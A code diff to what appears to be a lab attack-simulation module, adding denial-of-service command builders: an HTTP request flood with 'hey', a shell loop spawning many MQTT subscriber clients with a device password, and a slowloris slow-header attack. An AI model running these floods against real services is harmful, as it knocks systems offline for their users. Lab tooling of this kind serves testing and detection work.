@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import sys
+
 from wirespeak.lab.attacks.tool import MOST_PACKETS_PER_S, Strike, own, tool
 
 
@@ -75,6 +77,31 @@ def siege(s: Strike, *, clients: int = 8, pause: float = 0.1) -> list[str]:
         f"-d{pause}",
         f"-t{int(min(20, s.seconds))}S",
         f"http://{s.address}/api/state",
+    ]
+
+
+@tool("flood.http", package="hey")
+def hey(
+    s: Strike,
+    *,
+    clients: int = 5,
+    rate: float = 60.0,
+    page: str = "/",
+    post: bool = False,
+    keep: bool = False,
+) -> list[str]:
+    """hey: `clients` that together make `rate` requests a second."""
+    return [
+        "hey",
+        "-z",
+        f"{int(s.seconds)}s",
+        "-c",
+        str(clients),
+        "-q",
+        f"{min(rate, 300) / clients:g}",
+        *([] if keep else ["-disable-keepalive"]),
+        *(["-m", "POST", "-d", "x=1"] if post else []),
+        f"http://{s.address}{page}",
     ]
 
 
@@ -152,6 +179,18 @@ def mosquitto_pub_storm(s: Strike, *, parallel: int = 8, lines: int = 20) -> lis
     ]
 
 
+@tool("flood.mqtt", package="mosquitto-clients")
+def mosquitto_sub_storm(s: Strike, *, parallel: int = 6, topics: int = 2) -> list[str]:
+    """Many mosquitto_sub processes that subscribe to a few topics and leave when one second is over."""
+    named = " ".join(f"-t storm/{number}" for number in range(topics))
+    one = f"mosquitto_sub -h {s.address} {named} -u bulb -P {s.world.passwords['device']} -C 1 -W 1 >/dev/null 2>&1"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (while [ $(date +%s) -lt $end ]; do {one} & sleep 0.12; done) & done; wait",
+    ]
+
+
 @tool("flood.slow")
 def slowloris(
     s: Strike, *, connections: int = 120, interval: float = 4.0, body: bool = False, port: int = 80
@@ -208,3 +247,10 @@ def slowhttptest(s: Strike, *, mode: str = "H", connections: int = 100, interval
         "3",
         *extra,
     ]
+
+
+@tool("flood.slow")
+def pypi_slowloris(s: Strike, *, connections: int = 80, interval: int = 5, agents: bool = True) -> list[str]:
+    """The package `slowloris`: header lines that never end."""
+    pace = ["-s", str(connections), "--sleeptime", str(interval)]
+    return [sys.executable, "-m", "slowloris", *pace, *(["-ua"] if agents else []), s.address]
